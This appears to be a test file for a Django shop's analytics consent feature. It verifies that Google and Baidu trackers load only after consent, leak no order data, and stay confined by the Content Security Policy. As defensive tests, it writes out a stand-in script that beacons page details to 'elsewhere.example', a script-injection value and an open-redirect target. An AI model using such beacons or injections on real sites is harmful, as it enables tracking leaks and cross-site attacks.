"""Before a buyer agrees, nothing is requested from anybody else; afterwards others learn the kind of page and no more.

Every request that leaves our host is caught here and answered by stand-ins for the two programs.
"""

from urllib.parse import parse_qs, urlsplit

import pytest
from django.test import Client
from playwright.sync_api import expect

from huitou.accounts.buyers import open_demo_session, signed_link
from huitou.core.models import Shop
from huitou.core.tenancy import in_shop
from huitou.notifications.measuring import followed_token
from huitou.notifications.models import Mail, MailTrace
from huitou.parcels.models import Parcel
from huitou.portal.session import SESSION
from huitou.retention.verbs import set_measuring
from tests.browsing import PHONE
from tests.looking import faults

GOOGLE, BAIDU = "G-TEA12345", "0123456789abcdef0123456789abcdef"
# What each program does at least: look where it is, set a cookie, report; and one call that no policy allows.
PROGRAM = """{
const told = new URLSearchParams({u: location.href, t: document.title, r: document.referrer});
document.cookie = "%(cookie)s=1; path=%(path)s";
new Image().src = "%(report)s?" + told;
new Image().src = "https://elsewhere.example/?" + told;
}"""


def stand_in(host):
    google = host == "www.googletagmanager.com"
    return PROGRAM % {
        "cookie": "_ga" if google else "Hm_lvt_1", "path": "/s/teahouse/" if google else "/",
        "report": "https://region1.google-analytics.com/g/collect" if google else "https://hm.baidu.com/hm.gif",
    }  # fmt: skip


def catch(context, server):
    """What left our host, as (host, address, Referer)."""
    seen = []

    def answer(route):
        request, host = route.request, urlsplit(route.request.url).hostname
        if request.url.startswith(server.url):
            return route.continue_()
        seen.append((host, request.url, request.headers.get("referer", "")))
        return route.fulfill(status=200, content_type="text/javascript", body=stand_in(host))

    context.route("**/*", answer)
    return seen


@pytest.mark.browser
def test_nothing_leaves_before_consent_and_nothing_of_the_order_after_it(server, world, open_page):
    order, manager = world.order(delivered_days_ago=None), world.hire("manager")
    set_measuring(opens=False, clicks=True, gtag=GOOGLE, baidu=BAIDU, actor=manager, at=world.now)
    with in_shop(world.shop):
        Parcel.objects.filter(order=order).update(tracking_number="SF1234567890")
        mail = Mail.objects.create(
            shop=world.shop, key="news:1", message_id="m", state="sent", locale="zh-hans", queued_at=world.now,
            sent_at=world.now, measures="c", read_by=order.customer_id,
        )  # fmt: skip
    page = open_page("zh-hans", PHONE)
    page.expected_errors += ["Content Security Policy", "ERR_INCOMPLETE_CHUNKED_ENCODING"]
    seen = catch(page.context, server)
    # By the measured link of a mail, whose secret the browser carries through the redirect.
    secret = signed_link(shop_id=world.shop.pk, customer_id=order.customer_id, order_id=order.pk, at=world.now)
    place = f"/s/teahouse/orders/{order.number}/parcels/"
    page.goto(f"{server.url}/s/teahouse/m/{followed_token(mail, place)}/#{secret}")
    page.wait_for_url(f"**{place}")
    with in_shop(world.shop):
        trace = MailTrace.objects.get()
    assert trace.followed_at is None  # within seconds after it went out: as a scanner does
    assert trace.probed_at is not None
    no, yes = page.get_by_role("button", name="不同意"), page.get_by_role("button", name="同意", exact=True)
    expect(no).to_be_visible()
    boxes = [one.bounding_box() for one in (no, yes)]
    assert (boxes[0]["width"], boxes[0]["height"]) == (boxes[1]["width"], boxes[1]["height"])
    looks = "el => { const s = getComputedStyle(el); return [s.color, s.backgroundColor, s.fontWeight, s.borderColor] }"
    assert no.evaluate(looks) == yes.evaluate(looks)
    assert faults(page) == []
    no.click()
    page.wait_for_url(f"**{place}")
    expect(no).to_have_count(0)
    page.goto("/s/teahouse/track/?number=SF1234567890")
    assert seen == []
    page.get_by_role("link", name="访问统计").click()
    expect(page.get_by_text("你已拒绝")).to_be_visible()
    assert faults(page) == []
    page.get_by_role("button", name="同意", exact=True).click()
    expect(page.get_by_text("你已同意")).to_be_visible()
    assert seen == []
    with (
        page.expect_request(lambda request: "hm.gif" in request.url),
        page.expect_request(lambda request: "/g/collect" in request.url),
    ):
        page.goto("/s/teahouse/track/?number=SF1234567890")
    assert {host for host, _url, _referer in seen} == {
        "www.googletagmanager.com", "region1.google-analytics.com", "hm.baidu.com",
    }  # fmt: skip
    # On which host we are, without a path: Baidu counts nobody who hides that.
    assert {referer for _host, _url, referer in seen} == {f"{server.url}/"}
    for _host, url, _referer in seen:
        told = parse_qs(urlsplit(url).query, keep_blank_values=True)
        if "u" in told:
            assert (told["u"], told["r"]) == ([f"{server.url}/s/teahouse/statistics/track/"], [""])
            assert told["t"] == ["陶杯社: track"]
    assert not any("SF1234567890" in url or order.number in url for _host, url, _referer in seen)
    page.get_by_role("link", name="访问统计").click()
    page.get_by_role("button", name="不同意").click()
    expect(page.get_by_text("你已拒绝")).to_be_visible()
    assert not {one["name"] for one in page.context.cookies()} & {"_ga", "Hm_lvt_1"}
    before = len(seen)
    page.goto("/s/teahouse/track/?number=SF1234567890")
    expect(page.locator("iframe")).to_have_count(0)
    assert len(seen) == before


def test_only_the_frame_may_load_from_elsewhere_and_only_with_consent(world):
    order, manager = world.order(delivered_days_ago=None), world.hire("manager")
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    _grant, token = open_demo_session(shop_id=world.shop.pk, customer_id=order.customer_id, at=world.now)
    client.cookies[SESSION] = token
    here, frame = f"/s/teahouse/orders/{order.number}/parcels/", "/s/teahouse/statistics/parcels/"
    plain = client.get(here)
    assert "statistics" not in plain.content.decode()
    set_measuring(opens=False, clicks=False, gtag=GOOGLE, baidu="", actor=manager, at=world.now)
    assert "Count it" in client.get(here).content.decode()
    assert client.get(frame).status_code == 404
    back = client.post("/s/teahouse/statistics/", {"answer": "yes", "next": here})
    assert back["Location"] == here
    assert back.cookies["huitou_statistics"]["path"] == "/s/teahouse/"
    assert back.cookies["huitou_statistics"]["httponly"]
    away = client.post("/s/teahouse/statistics/", {"answer": "yes", "next": "//evil.example/"})
    assert away["Location"] == "/s/teahouse/statistics/"
    agreed, framed = client.get(here), client.get(frame)
    assert agreed["Content-Security-Policy"] == plain["Content-Security-Policy"]
    assert frame in agreed.content.decode()
    policy = dict(part.split(" ", 1) for part in framed["Content-Security-Policy"].split("; ") if " " in part)
    assert policy["script-src"] == "'self' https://www.googletagmanager.com"
    assert policy["connect-src"] == (
        "'self' https://*.google-analytics.com https://*.googletagmanager.com https://*.analytics.google.com"
    )
    assert (policy["default-src"], policy["frame-ancestors"]) == ("'self'", "'self'")
    assert "baidu" not in framed["Content-Security-Policy"]
    assert order.number not in framed.content.decode()
    # What somebody else put into the column gets into no page.
    Shop.objects.filter(pk=world.shop.pk).update(measuring={"gtag": 'G-1"><script>', "baidu": BAIDU.upper()})
    assert client.get(frame).status_code == 404
    assert "<iframe" not in client.get(here).content.decode()
    # Doors, codes and one's own data are told to nobody.
    Shop.objects.filter(pk=world.shop.pk).update(measuring={"gtag": GOOGLE})
    for silent in ("enter/", "my-data/", "preferences/", "privacy/"):
        assert "<iframe" not in client.get(f"/s/teahouse/{silent}").content.decode(), silent
